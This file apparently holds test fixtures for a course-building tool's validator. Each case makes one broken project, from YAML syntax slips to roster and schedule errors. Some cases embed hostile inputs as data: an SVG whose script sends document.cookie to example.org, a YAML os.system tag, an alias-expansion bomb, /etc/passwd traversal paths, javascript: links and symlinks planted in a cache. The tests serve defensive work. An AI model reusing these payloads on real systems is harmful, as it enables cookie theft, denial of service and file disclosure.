"""One small broken project per problem code: the mistake, and where it is made.

Used by test_messages.py (which asserts the exact report of each) and by
docs/problems.md (the catalogue of problems, generated from these cases).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

from conftest import MINIMAL
from plugins import install_output

LESSON = "modules/m1/les-1.yaml"
COURSE = "course/course.yaml"


def lesson(old: str, new: str) -> dict[str, str]:
    assert old in MINIMAL[LESSON], old
    return {LESSON: MINIMAL[LESSON].replace(old, new, 1)}


def course(old: str, new: str) -> dict[str, str]:
    assert old in MINIMAL[COURSE], old
    return {COURSE: MINIMAL[COURSE].replace(old, new, 1)}


CASE_FILE = """\
    kind: case_study
    code: CASE-1
    title: {id: Kasus, en: Case}
    source: ref_2020
    facts:
      - code: F1
        provenance: cited
        text: {id: Fakta., en: Fact.}
    """


FAILING_OUTPUT = """\
    from coursesmith.outputs.base import Output

    class Scratch(Output):
        name = "posters"

        def start(self, context):
            raise KeyError("speaker_notes")
    """
SCRIPTED_SVG = ("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 10 10'>\n"
                "  <script>fetch('https://example.org/?' + document.cookie)</script>\n</svg>\n")

WORKSHEET = """\
        worksheets:
          - code: LK-1
            title: {{id: Lembar kerja, en: Worksheet}}
            instructions: {{id: Tulis., en: Write.}}
            prompts: [{{text: {{id: Jawaban, en: Answer}}}}]
            indicators: [IND-1]
            bloom: C2
            assessed: true
{extra}"""
GROUP_RUBRIC = """\
            grouping: small_groups
            rubric: [{level: 1, text: {id: Cukup, en: Enough}}]
"""


@dataclass
class Case:
    code: str
    mistake: str
    files: dict[str, str | bytes] = field(default_factory=dict)
    remove: list[str] = field(default_factory=list)
    stage: str = "check"  # "build" / "build-pdf": found while rendering; "cache": the look at the cache
    setup: Callable | None = None
    output: str = "output"

    def make(self, project, monkeypatch) -> None:
        """Make the mistake in the scratch project."""
        for relative in self.remove:
            project.remove(relative)
        for relative, text in self.files.items():
            project.write(relative, text)
        if self.setup:
            self.setup(project, monkeypatch)


CASES = [
    Case("file-unreadable", "a file the build may not read", setup=lambda p, mp: _unreadable(p, mp)),
    Case("not-utf8", "a file saved in another encoding than UTF-8",
         {LESSON: MINIMAL[LESSON].replace("Sesi satu", "Sesi \xe9").encode("latin-1")}),
    Case("empty-file", "an empty file", {"modules/m1/notes.yaml": "# to do\n"}),
    Case("yaml-syntax", "a colon and space inside unquoted text", lesson("jp: 1", "jp: 1\n        methods: [Ceramah]\n        media: Papan: tulis")),
    Case("yaml-unclosed", "a bracket that is never closed", lesson("references: [ref_2020]", "references: [ref_2020")),
    Case("yaml-unquoted", "a colon inside {…} without quotes",
         lesson('stem: {id: "Pertanyaan?", en: "Question?"}', "stem: {id: Rapat: pagi?, en: Meeting?}")),
    Case("control-character", "an invisible control character pasted into a text",
         lesson("title: {id: Sesi satu", "title: {id: Sesi\x00 satu")),
    Case("link-outside", "a lesson file that is a link to a file outside the project",
         setup=lambda p, mp: _link_out(p, "modules/m1/les-2.yaml")),
    Case("yaml-tab", "a tab used for indentation", lesson("        jp: 1\n", "        jp: 1\n        \tx: 1\n")),
    Case("yaml-duplicate-key", "the same key twice", lesson("        jp: 1\n", "        jp: 1\n        jp: 2\n")),
    Case("yaml-tag", "a YAML tag", lesson("jp: 1", "jp: !!python/object:os.system 1")),
    Case("yaml-key-type", "a list used as a key", lesson("        jp: 1\n", "        jp: 1\n        [a, b]: 1\n")),
    Case("yaml-too-large", "aliases that expand without end",
         {"modules/m1/bomb.yaml": "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
             f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]\n" for i in range(1, 8))}),
    Case("yaml-too-deep", "nesting deeper than any course file needs",
         {"modules/m1/deep.yaml": "a: " + "[" * 70 + "]" * 70 + "\n"}),
    Case("yaml-merge-key", "a YAML merge key",
         lesson("        jp: 1\n", "        jp: 1\n        x: &x {a: 1}\n        y:\n          <<: *x\n")),
    Case("not-a-mapping", "a file that is a list", {"modules/m1/list.yaml": "- kind: lesson\n"}),
    Case("missing-kind", "a file that does not say what it is", {"modules/m1/x.yaml": "code: X\n"}),
    Case("unknown-kind", "a misspelt kind", {"modules/m1/x.yaml": "kind: lessen\n"}),
    Case("no-course", "a project without course/", remove=[COURSE, "course/bibliography.yaml"],
         setup=lambda p, mp: (p.root / "course").rmdir()),
    Case("course-elsewhere", "a course file outside course/", {"modules/course.yaml": MINIMAL[COURSE]}),
    Case("second-course", "two course files", {"course/course2.yaml": MINIMAL[COURSE]}),
    Case("unknown-key", "a misspelt key", lesson("        jp: 1\n", "        jp: 1\n        titel: x\n")),
    Case("missing-field", "a required field left out",
         lesson("        learning_outcome: {id: Peserta mampu menjelaskan., en: Participants can explain.}\n", "")),
    Case("wrong-type", "text where a list belongs", lesson("minutes: 45", "minutes: 45\n            materials: spidol")),
    Case("bad-value", "a value outside its set", lesson("bloom: C2", "bloom: C7")),
    Case("bad-format", "a code with a space", lesson("code: LES-1", "code: LES 1")),
    Case("too-few", "an empty list that needs items", lesson("""        main_topics:
          - text: {id: Topik, en: Topic}
""", "        main_topics: []\n")),
    Case("bad-number", "a number out of range", lesson("jp: 1", "jp: 0")),
    Case("bad-language", "a language key that is not a language code",
         lesson("title: {id: Sesi satu, en: Lesson one}", "title: {id: Sesi satu, en: Lesson one, english: x}")),
    Case("empty-text", "an empty text", lesson("title: {id: Sesi satu, en: Lesson one}", 'title: {id: "", en: Lesson one}')),
    Case("cited-without-source", "a cited fact that does not name its source",
         {"modules/cases/c.yaml": CASE_FILE, **lesson("references: [ref_2020]", "references: [ref_2020]\n        case_study: CASE-1")}),
    Case("empty-illustrative-label", "an illustrative activity with an empty label",
         lesson("type: lecture", 'type: lecture\n            illustrative: ""')),
    Case("unknown-reference", "a misspelt reference", lesson("references: [ref_2020]", "references: [ref_2002]")),
    Case("duplicate-code", "the same code in two files", {"modules/m1/les-2.yaml": MINIMAL[LESSON]}),
    Case("unused-file", "a lesson no module lists",
         {"modules/m1/les-9.yaml": MINIMAL[LESSON].replace("code: LES-1", "code: LES-9")}),
    Case("minutes-mismatch", "activities that do not fill the lesson", lesson("minutes: 45", "minutes: 40")),
    Case("reflective-without-rubric", "a reflective question without a rubric",
         lesson("            rationale: {id: Alasan rahasia., en: Secret rationale.}\n",
                "            rationale: {id: Alasan rahasia., en: Secret rationale.}\n"
                "          - code: Q2\n            type: reflective\n            prompt: {id: Renungkan., en: Reflect.}\n")),
    Case("answer-not-option", "an answer that is not an option", lesson("answer: a", "answer: c")),
    Case("duplicate-option", "two options with the same key",
         lesson("- {key: b, text: {id: Dua, en: Two}}", "- {key: a, text: {id: Dua, en: Two}}")),
    Case("indicator-unmeasured", "an indicator no item or scored worksheet measures",
         lesson("            indicator: IND-1\n", "")),
    Case("below-indicator", "a recall item measuring an indicator at a higher level",
         lesson("Secret rationale.}\n            bloom: C2", "Secret rationale.}\n            bloom: C1")),
    Case("prompt-numbered", "a worksheet prompt whose text starts with its own number",
         lesson("        references: [ref_2020]\n", WORKSHEET.format(extra="").replace(
             "{text: {id: Jawaban, en: Answer}}", '{text: {id: "1. Jawaban", en: "1. Answer"}}').replace(
             "            assessed: true\n", "") + "        references: [ref_2020]\n")),
    Case("worksheet-without-rubric", "an assessed worksheet without a rubric",
         lesson("        references: [ref_2020]\n", WORKSHEET.format(extra="") + "        references: [ref_2020]\n")),
    Case("group-evidence-only", "an individual indicator measured only by a group worksheet",
         {LESSON: MINIMAL[LESSON].replace("            indicator: IND-1\n", "").replace(
             "        references: [ref_2020]\n", WORKSHEET.format(extra=GROUP_RUBRIC) + "        references: [ref_2020]\n")}),
    Case("activity-without-indicator", "an activity that serves no indicator",
         lesson("            indicators: [IND-1]\n", "")),
    Case("activity-does-not-scale", "presentations by every group that do not fit a class of 30",
         {**course("languages: [id, en]", "languages: [id, en]\n        class_size: 30"),
          **lesson("            indicators: [IND-1]\n",
                   "            indicators: [IND-1]\n            group_size: 5\n            per_group_minutes: 10\n")}),
    Case("block-too-long", "a lesson longer than the course's limit without a break",
         course("languages: [id, en]", 'languages: [id, en]\n        max_block_minutes: 30\n        schedule:\n'
                '          - start: "08:00"\n            slots:\n              - lesson: LES-1')),
    Case("task-without-time", "homework due at the end of a coffee break",
         {**course("languages: [id, en]", 'languages: [id, en]\n        schedule:\n          - start: "08:00"\n'
                   '            slots:\n              - lesson: LES-1\n'
                   '              - {title: {id: Rehat kopi, en: Coffee break}, minutes: 15, type: break, code: REHAT-1}'),
          **lesson("            indicators: [IND-1]\n",
                   "            indicators: [IND-1]\n            homework: {minutes: 20, due: REHAT-1}\n")}),
    Case("wrong-lesson-reference", "a sentence that sends participants to the wrong lesson for a worksheet",
         {**lesson("        references: [ref_2020]\n", WORKSHEET.format(extra="") + "        references: [ref_2020]\n"),
          "modules/m1/les-2.yaml": MINIMAL[LESSON].replace("code: LES-1", "code: LES-2").replace(
              "participant_instructions: {id: Dengarkan., en: Listen.}",
              "participant_instructions: {id: Bawa LK-1 dari LES-2., en: Bring LK-1 from LES-2.}"),
          "modules/m1/module.yaml": MINIMAL["modules/m1/module.yaml"].replace("[LES-1]", "[LES-1, LES-2]")}),
    Case("bad-dates", "a course that ends before it starts",
         course("languages: [id, en]", "languages: [id, en]\n        dates: {start: 2027-03-02, end: 2027-03-01}")),
    Case("bad-slot", "a schedule slot that is neither a lesson nor a timed break",
         course("languages: [id, en]", 'languages: [id, en]\n        schedule:\n          - start: "08:00"\n'
                '            slots:\n              - lesson: LES-1\n              - minutes: 15')),
    Case("unscheduled-lesson", "a schedule that leaves a lesson out",
         course("languages: [id, en]", 'languages: [id, en]\n        schedule:\n          - start: "08:00"\n'
                '            slots:\n              - {title: {id: Pembukaan, en: Opening}, minutes: 15}')),
    Case("scheduled-twice", "a lesson in two slots",
         course("languages: [id, en]", 'languages: [id, en]\n        schedule:\n          - start: "08:00"\n'
                '            slots:\n              - lesson: LES-1\n              - lesson: LES-1')),
    Case("schedule-overlap", "two entries for the same date whose times overlap",
         course("languages: [id, en]", 'languages: [id, en]\n        schedule:\n          - date: 2027-03-01\n'
                '            start: "08:00"\n            slots:\n              - lesson: LES-1\n'
                '          - date: 2027-03-01\n            start: "08:30"\n            slots:\n'
                '              - {title: {id: Rehat, en: Break}, minutes: 15}')),
    Case("day-too-long", "a day that runs past midnight",
         course("languages: [id, en]", 'languages: [id, en]\n        schedule:\n          - start: "23:30"\n'
                '            slots:\n              - lesson: LES-1')),
    Case("missing-translation", "a text without one of the course's languages",
         lesson("title: {id: Sesi satu, en: Lesson one}", "title: {id: Sesi satu}")),
    Case("missing-translation-warning", "the same, in a course that allows drafts",
         {**lesson("title: {id: Sesi satu, en: Lesson one}", "title: {id: Sesi satu}"),
          **course("languages: [id, en]", "languages: [id, en]\n        missing_translation: warning")}),
    Case("asset-missing", "an image that does not exist",
         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                'body: {id: "![Peta](img/peta.png)", en: "![Map](img/peta.png)"}')),
    Case("asset-outside", "an image outside the project",
         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                'body: {id: "![Sandi](../../../etc/passwd)", en: "Section."}')),
    Case("asset-remote", "an image on the web",
         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                'body: {id: "![Logo](https://example.org/logo.png)", en: "Section."}')),
    Case("url-scheme", "a javascript: link",
         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                'body: {id: "[Klik](javascript:alert(1))", en: "Section."}')),
    Case("asset-unsafe", "an SVG image with a script, used by a lesson",
         {"modules/m1/img/a.svg": SCRIPTED_SVG, **lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                                                         'body: {id: "![Peta](img/a.svg)", en: "Section."}')}),
    Case("svg-unsafe", "the same SVG, where its script is",
         {"modules/m1/img/a.svg": SCRIPTED_SVG, **lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                                                         'body: {id: "![Peta](img/a.svg)", en: "Section."}')}),
    Case("css-unsafe", "a print stylesheet that imports another from the web",
         {"templates/css/print.css": "p { color: black; }\n@import url(https://example.org/x.css);\n"}),
    Case("image-unreadable", "a PNG file that is not an image",
         {"modules/m1/img/a.png": b"<html>not an image</html>",
          **lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}', 'body: {id: "![Peta](img/a.png)", en: "Section."}')}),
    Case("image-large", "a photo far larger than a printed page needs",
         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}', 'body: {id: "![Peta](img/a.png)", en: "Section."}'),
         setup=lambda p, mp: _large_png(p.root / "modules/m1/img/a.png")),
    Case("image-without-alt", "an image without alternative text",
         {"modules/m1/img/a.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>",
          **lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                   'body: {id: "![](img/a.svg)", en: "![A](img/a.svg)"}')}),
    Case("unsafe-html", "a script in Markdown",
         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                'body: {id: "Isi <script>alert(1)</script> bagian.", en: "Section."}')),
    Case("link-to-source", "a link to a lesson's YAML file instead of to the lesson",
         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                'body: {id: "Lihat [sesi ini](les-1.yaml).", en: "Section."}')),
    Case("unpublished-kind", "a link to a Python script",
         {"modules/m1/files/tool.py": "print('hi')\n",
          **lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                   'body: {id: "Unduh [alat](files/tool.py).", en: "Section."}')}),
    Case("unknown-link", "a link to a lesson code that does not exist",
         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                'body: {id: "Lihat [sesi](lesson:LES-2).", en: "Section."}')),
    Case("unknown-callout", "a fenced div of a kind coursesmith does not know",
         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                'body: {id: "::: sidebar\\nIsi.\\n:::\\n", en: "Section."}')),
    Case("unsupported-math", "a formula in dollar signs",
         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                'body: {id: "Rumus $E=mc^2$ di sini.", en: "Section."}')),
    Case("private-block-in-short-text", "a facilitator block inside a key point, which takes no blocks",
         lesson('references: [ref_2020]', 'references: [ref_2020]\n        key_points:\n          - "::: facilitator Jawaban: a"')),
    Case("markdown-in-plain-text", "emphasis in a lesson title, which is plain text",
         lesson("title: {id: Sesi satu, en: Lesson one}", "title: {id: Sesi *satu*, en: Lesson one}")),
    Case("undeclared-language", "a French text in a course taught in Indonesian and English",
         lesson("title: {id: Sesi satu, en: Lesson one}", "title: {id: Sesi satu, en: Lesson one, fr: Leçon un}")),
    Case("bad-image-width", "an image width that is not pixels or percent",
         {"modules/m1/img/a.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>",
          **lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                   'body: {id: "![Peta](img/a.svg){width=wide}", en: "![Map](img/a.svg)"}')}),
    Case("missing-labels", "a language without interface labels",
         course("languages: [id, en]", "languages: [id, jv]\n        missing_translation: warning")),
    Case("roster-unknown-column", "a roster column coursesmith does not know",
         files={"course/roster.csv": "name,nip,pangkat\nSatu Contoh,198503122010011001,III/d\n"}),
    Case("roster-missing-column", "a roster without a NIP column",
         files={"course/roster.csv": "name,agency\nSatu Contoh,Kota Contoh\n"}),
    Case("roster-missing", "a roster row without a name",
         files={"course/roster.csv": "name,nip\n,198503122010011001\n"}),
    Case("roster-bad-nip", "a NIP whose birth date does not exist",
         files={"course/roster.csv": "name,nip\nSatu Contoh,198502302010011001\n"}),
    Case("roster-duplicate-nip", "the same NIP on two rows",
         files={"course/roster.csv": "name,nip\nSatu,198503122010011001\nDua,198503122010011001\n"}),
    Case("roster-extra-cell", "a row with an unquoted comma",
         files={"course/roster.csv": "name,nip,agency\nSatu,198503122010011001,Kota Contoh, Jawa\n"}),
    Case("roster-twice", "a roster both as CSV and as YAML",
         files={"course/roster.csv": "name,nip\nSatu,198503122010011001\n",
                "course/roster.yaml": "kind: roster\nparticipants: []\n"}),
    Case("people-unknown-lesson", "a facilitator teaching a lesson the course does not have",
         files={"course/people.yaml": "kind: people\npeople:\n  - name: Pengajar Contoh\n    lessons: [LES-1, LES-2]\n"}),
    Case("lesson-without-facilitator", "a lesson that nobody in course/people.yaml teaches",
         files={"course/people.yaml": "kind: people\npeople:\n  - name: Pengajar Contoh\n    lessons: [LES-9]\n"}),
    Case("verify-list-invalid", "a committed certificate list that was edited by hand",
         files={"course/verify-list.json": '{"abc": "00"}\n'}),
    Case("verify-list-stale", "a committed certificate list made before the roster changed", stage="build",
         files={"course/roster.csv": "name,nip\nSatu,198503122010011001\n",
                "course/verify-list.json": '{"' + "0" * 64 + '": "' + "ab" * 40 + '"}\n'}),
    Case("certificate-number", "a certificate number pattern with an unknown field",
         files={"course/roster.csv": "name,nip\nSatu,198503122010011001\n",
                **course("languages: [id, en]", 'languages: [id, en]\n        office: {certificate_number: "{seq}/{angkatan}"}')}),
    Case("template-error", "a template that names a field that does not exist",
         {"templates/site/glossary.html": "<p>{{ course.no_such_field }}</p>\n"}, stage="build"),
    Case("inaccessible-document", "a template without the document's language",
         {"templates/print/handout.html": "<html><title>{{ lesson.code }}</title><p>x</p></html>\n"},
         stage="build-pdf"),
    Case("pdf-warning", "a stylesheet property WeasyPrint does not support",
         {"templates/css/print.css": "p { no-such-property: 1; }\n"}, stage="build-pdf"),
    Case("print-setup-error", "a print stylesheet that imports a file that does not exist",
         {"templates/css/print.css": '@import "missing.css";\np { color: black; }\n'}, stage="build-pdf"),
    Case("pdf-error", "a template that reaches outside the project",
         {"templates/print/handout.html": '<html lang="{{ lang }}"><title>x</title><img src="file:///etc/passwd" alt="x">\n'},
         stage="build-pdf"),
    Case("search-error", "a search indexer that cannot run", stage="build",
         setup=lambda p, mp: mp.setattr("coursesmith.outputs.search.PAGEFIND", ["/nonexistent/pagefind"])),
    Case("output-failed", "an output from another package whose code fails", stage="build",
         setup=lambda p, mp: install_output(p.root.parent / "site-packages", mp, "posters", FAILING_OUTPUT)),
    Case("question-part-dropped", "a reflective item with a rubric, which GIFT cannot carry", lesson(
        "            rationale: {id: Alasan rahasia., en: Secret rationale.}\n            bloom: C2\n",
        "            rationale: {id: Alasan rahasia., en: Secret rationale.}\n            bloom: C2\n"
        "          - code: Q2\n            type: reflective\n"
        "            prompt: {id: Apa yang Anda pelajari?, en: What did you learn?}\n"
        "            rubric:\n              - {level: 2, text: {id: Rinci., en: Detailed.}}\n")),
    Case("output-error", "an output folder that cannot be created", stage="build", output="blocked/output",
         setup=lambda p, mp: (p.root / "blocked").write_text("a file, not a folder")),
    Case("cache-untrusted", "a cache committed to the repository (checked out: no tag, mode 0755)", stage="cache",
         files={".coursesmith/cache/builds/planted.json": "{}"}),
    Case("cache-tracked", "files committed into a cache this machine made (pulled in with a branch)",
         stage="cache", setup=lambda p, mp: _tracked_in_cache(p)),
    Case("cache-not-ours", "a cache folder that holds other files (as `--cache-dir .` would)", stage="cache",
         files={".coursesmith/cache/notes.txt": "mine"}),
    Case("cache-outside", "a `.coursesmith` folder that is a link out of the project", stage="cache",
         setup=lambda p, mp: _cache_behind_a_link(p)),
    Case("cache-link", "a link in the cache to a file outside the project", stage="cache",
         setup=lambda p, mp: _link_in_cache(p)),
    Case("cache-link-kept", "a link in the cache that cannot be removed", stage="cache",
         setup=lambda p, mp: _link_in_cache(p, mp)),
]

CACHE = ".coursesmith/cache"


def _cache_behind_a_link(project) -> None:
    elsewhere = project.root.parent / "elsewhere"
    elsewhere.mkdir()
    (project.root / ".coursesmith").symlink_to(elsewhere)


def _tracked_in_cache(project) -> None:
    """A cache coursesmith made, into which a branch's commit put an entry."""
    from coursesmith.cache_trust import trusted_cache
    from coursesmith.diagnostics import Problems
    from conftest import commit_all

    trusted_cache(project.root / CACHE, project.root, Problems())
    planted = project.root / CACHE / "outputs" / "site" / "html" / "ab" / "ab12.html"
    planted.parent.mkdir(parents=True)
    planted.write_text("<script>alert(1)</script>", encoding="utf-8")
    commit_all(project.root, "a lesson, and a cache entry", force=True)


def _link_in_cache(project, monkeypatch=None) -> None:
    """A link planted in a cache coursesmith made (a branch checked out into it); with
    `monkeypatch`, one the build may not remove."""
    import os

    from coursesmith.cache_trust import trusted_cache
    from coursesmith.diagnostics import Problems

    trusted_cache(project.root / CACHE, project.root, Problems())
    outside = project.root.parent / "secret.txt"
    outside.write_text("a secret", encoding="utf-8")
    link = project.root / CACHE / "outputs" / "print" / "e2" / "e2ec.pdf"
    link.parent.mkdir(parents=True)
    link.symlink_to(outside)
    if monkeypatch is not None:
        real = os.unlink

        def unlink(path, *args, **kwargs):
            if os.fspath(path) == str(link):
                raise PermissionError(13, "Permission denied", str(path))
            return real(path, *args, **kwargs)

        monkeypatch.setattr(os, "unlink", unlink)


def _link_out(project, relative: str) -> None:
    outside = project.root.parent / "outside.yaml"
    outside.write_text("kind: glossary\nterms: []\n", encoding="utf-8")
    link = project.root / relative
    link.symlink_to("../" * relative.count("/") + "../outside.yaml")


def _large_png(path) -> None:
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("1", (3200, 40)).save(path)


def _unreadable(project, monkeypatch) -> None:
    from pathlib import Path

    real = Path.read_bytes
    target = (project.root / LESSON).resolve()

    def read_bytes(self):
        if self.resolve() == target:
            raise PermissionError(13, "Permission denied", str(self))
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
